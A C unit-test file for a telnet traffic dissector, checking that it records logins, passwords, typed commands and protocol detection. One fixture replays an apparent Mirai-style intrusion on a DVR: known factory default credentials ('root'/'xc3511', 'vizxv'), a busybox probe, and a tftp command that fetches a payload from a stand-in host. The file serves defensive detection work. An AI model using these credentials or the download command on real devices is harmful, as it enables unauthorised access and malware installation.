/* SPDX-License-Identifier: Apache-2.0 */
#include "dialogue.h"
#include "dissect/protocols.h"

static const struct dialogue_line factory_password[] = {
    SERVER("\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"
           "DVR-8 \r\n\r\nlogin: "),
    CLIENT("\xff\xfc\x01\xff\xfa\x18\x00vt100\xff\xf0"),
    CLIENT("root\r\n"),
    SERVER("root\r\nPassword: "),
    CLIENT("xc3511\r\n"),
    SERVER("\r\n\r\nBusyBox v1.16.1 built-in shell (ash)\r\n\x1b[0m# "),
    CLIENT("/bin/busybox MIRAI\r\n"),
    SERVER("/bin/busybox MIRAI\r\nMIRAI: applet not found\r\n# "),
    CLIENT("tftp -g -l a 192.0.2.9\r\n"),
};

static const struct dialogue factory =
    DIALOGUE(&telnet_dissector, 23, factory_password);

static void tells_who_logged_in_and_what_was_typed(void **state)
{
    (void)state;
    struct dissect_run run;

    dialogue_run(&factory, &run);
    assert_int_equal(dissect_run_count(&run, EVENT_LOGIN), 1);
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 0, FIELD_LOGIN_USER), "root");
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 0, FIELD_LOGIN_PASSWORD), "xc3511");
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 0, FIELD_LOGIN_RESULT), "success");
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 0, FIELD_LOGIN_CLEAR), "true");
    assert_int_equal(dissect_run_count(&run, EVENT_TELNET), 2);
    assert_string_equal(
        dialogue_text(&run, EVENT_TELNET, 0, FIELD_TELNET_LINE),
        "/bin/busybox MIRAI");
    assert_string_equal(
        dialogue_text(&run, EVENT_TELNET, 1, FIELD_TELNET_NUMBER), "2");
    dissect_run_clear(&run);
}

static void survives_every_sweep(void **state)
{
    (void)state;
    dialogue_sweep(&factory);
}

static void counts_failed_attempts(void **state)
{
    (void)state;
    static const struct dialogue_line lines[] = {
        SERVER("Username:"), CLIENT("admin\r\0"),
        SERVER("Password:"), CLIENT("admin\r\0"),
        SERVER("\r\nLogin incorrect\r\nUsername:"), CLIENT("admin\r\0"),
        SERVER("Password:"), CLIENT("\r\0"),
        SERVER("\r\nUsername:"), CLIENT("x\r\0"),
        SERVER("Password:"), CLIENT("1234\r\0"),
        SERVER("\r\nAccess denied\r\n"),
    };
    struct dialogue dialogue = DIALOGUE(&telnet_dissector, 23, lines);
    struct dissect_run run;

    dialogue_run(&dialogue, &run);
    assert_int_equal(dissect_run_count(&run, EVENT_LOGIN), 3);
    for (size_t i = 0; i < 3; i++)
        assert_string_equal(
            dialogue_text(&run, EVENT_LOGIN, i, FIELD_LOGIN_RESULT),
            "failure");
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 1, FIELD_LOGIN_PASSWORD), "(none)");
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 2, FIELD_LOGIN_ATTEMPT), "3");
    assert_int_equal(dissect_run_count(&run, EVENT_TELNET), 0);
    dissect_run_clear(&run);
}

static void puts_single_characters_together(void **state)
{
    (void)state;
    static const struct dialogue_line lines[] = {
        SERVER("login: "),
        CLIENT("p"), SERVER("p"), CLIENT("x"), SERVER("x"),
        CLIENT("\x7f"), SERVER("\b \b"), CLIENT("i"), SERVER("i"),
        CLIENT("\r"), SERVER("\r\nPassword: "),
        CLIENT("a"), CLIENT("b"), CLIENT("\b"), CLIENT("c"), CLIENT("\r\n"),
        SERVER("\r\npi@home:~$ "),
        CLIENT("i"), SERVER("i"), CLIENT("d"), SERVER("d"), CLIENT("\r"),
    };
    struct dialogue dialogue = DIALOGUE(&telnet_dissector, 2323, lines);
    struct dissect_run run;

    dialogue_run(&dialogue, &run);
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 0, FIELD_LOGIN_USER), "pi");
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 0, FIELD_LOGIN_PASSWORD), "ac");
    assert_string_equal(
        dialogue_text(&run, EVENT_TELNET, 0, FIELD_TELNET_LINE), "id");
    dissect_run_clear(&run);
}

static void shows_no_password_given_before_its_prompt(void **state)
{
    (void)state;
    static const struct dialogue_line lines[] = {
        SERVER("login: "), CLIENT("root\nvizxv\n"),
        SERVER("Password: "), SERVER("\r\n# "), CLIENT("sh\n"),
    };
    struct dialogue dialogue = DIALOGUE(&telnet_dissector, 23, lines);
    struct dissect_run run;

    dialogue_run(&dialogue, &run);
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 0, FIELD_LOGIN_PASSWORD), "vizxv");
    assert_string_equal(
        dialogue_text(&run, EVENT_LOGIN, 0, FIELD_LOGIN_RESULT), "success");
    assert_int_equal(dissect_run_count(&run, EVENT_TELNET), 1);
    dissect_run_clear(&run);
}

static void keeps_a_line_of_256_bytes_and_cuts_one_more(void **state)
{
    (void)state;
    struct dissect_run run;
    char line[258];

    for (size_t size = 256; size <= 257; size++) {
        for (size_t i = 0; i < size; i++)
            line[i] = 'a';
        line[size] = '\n';
        dissect_run_init(&run, &telnet_dissector, 23);
        dissect_run_send(&run, FLOW_RESPONDER, bytes_of_text("$ "));
        dissect_run_send(&run, FLOW_ORIGINATOR, bytes_of(line, size + 1));
        const struct event *event = dissect_run_event(&run, EVENT_TELNET, 0);
        assert_int_equal(event_text(event, FIELD_TELNET_LINE).size, 256);
        assert_string_equal(
            dialogue_text(&run, EVENT_TELNET, 0, FIELD_TELNET_TRUNCATED),
            size == 256 ? "(none)" : "true");
        dissect_run_clear(&run);
    }
}

static void stops_showing_lines_at_the_limit_and_says_so(void **state)
{
    (void)state;
    struct dissect_run run;

    dissect_run_init(&run, &telnet_dissector, 23);
    dissect_run_send(&run, FLOW_RESPONDER, bytes_of_text("$ "));
    for (int i = 0; i < 512; i++) {
        event_list_init(&run.events, &run.arena);
        dissect_run_send(&run, FLOW_ORIGINATOR, bytes_of_text("ls\n"));
    }
    assert_string_equal(
        dialogue_text(&run, EVENT_TELNET, 0, FIELD_TELNET_LIMIT_REACHED),
        "true");
    event_list_init(&run.events, &run.arena);
    dissect_run_send(&run, FLOW_ORIGINATOR, bytes_of_text("ls\n"));
    assert_int_equal(run.events.count, 0);
    dissect_run_clear(&run);
}

static void is_told_by_negotiation_or_prompt(void **state)
{
    (void)state;
    static const struct {
        enum flow_side side;
        uint16_t port;
        const char *data;
        enum dissect_verdict verdict;
        const char *reason;
    } vectors[] = {
        { FLOW_ORIGINATOR, 99, "\xff\xfd\x03", DISSECT_DONE, "DO" },
        { FLOW_ORIGINATOR, 99, "\xff\xfd", DISSECT_MORE, "too short" },
        { FLOW_ORIGINATOR, 99, "\xff\xd8\xff", DISSECT_NOT_MINE, "JPEG" },
        { FLOW_ORIGINATOR, 99, "\xff\xfb\x90", DISSECT_NOT_MINE, "MPEG" },
        { FLOW_RESPONDER, 99, "x login: ", DISSECT_DONE, "prompt" },
        { FLOW_RESPONDER, 99, "x # ", DISSECT_MORE, "could be anything" },
        { FLOW_RESPONDER, 23, "x # ", DISSECT_DONE, "the port says it" },
        { FLOW_RESPONDER, 23, "SSH-2.0-x\r\n", DISSECT_MORE, "no prompt" },
        { FLOW_ORIGINATOR, 23, "\x01", DISSECT_NOT_MINE, "binary" },
    };
    for (size_t i = 0; i < COUNT_OF(vectors); i++) {
        struct dissect_run run;
        dissect_run_init(&run, &telnet_dissector, vectors[i].port);
        assert_int_equal(
            dissect_run_recognise(&run, vectors[i].side,
                                  bytes_of_text(vectors[i].data)),
            vectors[i].verdict);
        dissect_run_clear(&run);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(tells_who_logged_in_and_what_was_typed),
        cmocka_unit_test(survives_every_sweep),
        cmocka_unit_test(counts_failed_attempts),
        cmocka_unit_test(puts_single_characters_together),
        cmocka_unit_test(shows_no_password_given_before_its_prompt),
        cmocka_unit_test(keeps_a_line_of_256_bytes_and_cuts_one_more),
        cmocka_unit_test(stops_showing_lines_at_the_limit_and_says_so),
        cmocka_unit_test(is_told_by_negotiation_or_prompt),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
